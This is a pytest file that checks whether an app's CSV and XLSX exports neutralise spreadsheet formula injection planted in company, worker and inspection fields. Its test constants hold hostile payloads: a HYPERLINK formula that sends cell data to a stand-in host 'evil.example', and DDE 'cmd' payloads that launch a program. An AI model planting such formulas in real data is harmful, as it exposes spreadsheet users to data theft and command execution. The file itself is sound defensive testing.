"""Issue #14 item 7: formula injection. An editor plants spreadsheet formulas in company names and
addresses, a worker's position and inspection notes; every CSV an agency downloads must neutralise
them (OWASP: a leading single quote) and every XLSX must hold them as text, never as formula cells,
while real numbers (negative latitudes) stay numbers."""

from __future__ import annotations

import csv
import io

import httpx
import psycopg2
import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.slow  # a server of its own

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
P_EQ = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
P_PLUS = "+cmd|' /C calc'!A0"
P_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
P_MINUS = "-2+3+cmd|' /C calc'!A0"
P_TAB = "\t=1+1"
P_CR = "\r=2+2"
P_POSITION = "=1+2"


@pytest.fixture(scope="module")
def data(server_url, template_db):
    from tests.seed import seed

    s = seed(server_url, template_db)
    with httpx.Client(base_url=s.server.base, timeout=60) as c:
        editor = s.headers("editor")

        def patch(path, body):
            etag = c.get(path, headers=editor).headers["etag"]
            r = c.patch(path, json=body, headers={**editor, "If-Match": etag})
            assert r.status_code == 200, r.text

        patch(f"/api/companies/{s.company_ids[0]}", {"name": P_EQ, "address": P_PLUS})
        patch(f"/api/companies/{s.company_ids[1]}", {"name": P_AT, "address": P_MINUS})
        patch(f"/api/workers/{s.worker_ids[0]}", {"position": P_POSITION})
        patch(f"/api/inspections/{s.inspection_ids[0]}", {"notes": P_EQ, "follow_up": P_MINUS})
    # The edit models strip leading whitespace; a TAB or CR can still arrive by other routes.
    conn = psycopg2.connect(s.url)
    with conn, conn.cursor() as cur:
        cur.execute("UPDATE companies SET address = %s WHERE id = %s", (P_TAB, s.company_ids[2]))
        cur.execute("UPDATE inspections SET follow_up = %s WHERE id = %s", (P_CR, s.inspection_ids[2]))
        cur.execute("SELECT current_date")
        today = cur.fetchone()[0]
    conn.close()
    s.quarter = f"{today.year}-Q{(today.month - 1) // 3 + 1}"
    yield s
    s.close()


@pytest.fixture(scope="module")
def client(data):
    with httpx.Client(base_url=data.server.base, timeout=300) as c:
        yield c


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_neutral_csv(body: bytes, planted: tuple[str, ...]) -> None:
    cells = _csv_cells(body)
    live = [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
    assert live == [], live
    for payload in planted:
        assert "'" + payload in cells, payload


def assert_text_xlsx(body: bytes, planted: tuple[str, ...]) -> list:
    wb = load_workbook(io.BytesIO(body))
    cells = [cell for ws in wb for row in ws.iter_rows() for cell in row]
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == [], formulas
    values = {c.value for c in cells}
    for payload in planted:  # XML turns a CR into LF
        assert payload.replace("\r", "\n") in values, payload
    return cells


@pytest.mark.parametrize(("kind", "planted"), [
    ("companies", (P_EQ, P_PLUS, P_AT, P_MINUS, P_TAB)),
    ("workers", (P_EQ, P_AT, P_POSITION)),
    ("inspections", (P_EQ, P_MINUS, P_AT, P_CR)),
])
def test_csv_exports_neutralise_formulas(client, data, kind, planted):
    r = client.get(f"/api/exports/{kind}", params={"format": "csv"}, headers=data.headers("admin"))
    assert r.status_code == 200, r.text
    assert_neutral_csv(r.content, planted)
    if kind == "companies":  # real numbers stay numbers: Kalimantan lies south of the equator
        cells = _csv_cells(r.content)
        assert "-2.54" in cells and "112.95" in cells


@pytest.mark.parametrize(("kind", "planted"), [
    ("companies", (P_EQ, P_PLUS, P_AT, P_MINUS, P_TAB)),
    ("workers", (P_EQ, P_AT, P_POSITION)),
    ("inspections", (P_EQ, P_MINUS, P_AT, P_CR)),
])
def test_xlsx_exports_hold_text_not_formulas(client, data, kind, planted):
    r = client.get(f"/api/exports/{kind}", params={"format": "xlsx"}, headers=data.headers("admin"))
    assert r.status_code == 200, r.text
    cells = assert_text_xlsx(r.content, planted)
    if kind == "companies":
        assert any(isinstance(c.value, float) and c.value == -2.54 for c in cells)


def test_feature_csv_neutralises_formulas(client, data):
    r = client.get("/api/collections/companies/items", params={"f": "csv"}, headers=data.headers("viewer"))
    assert r.status_code == 200, r.text
    assert_neutral_csv(r.content, (P_EQ, P_AT, P_PLUS, P_MINUS, P_TAB))


def test_report_xlsx_annex_holds_text_not_formulas(client, data):
    r = client.get("/api/reports", params={"period": data.quarter, "format": "xlsx"}, headers=data.headers("admin"))
    assert r.status_code == 200, r.text
    cells = assert_text_xlsx(r.content, (P_EQ, P_AT, P_CR))
    assert any(isinstance(c.value, float) and c.value == -2.54 for c in cells)
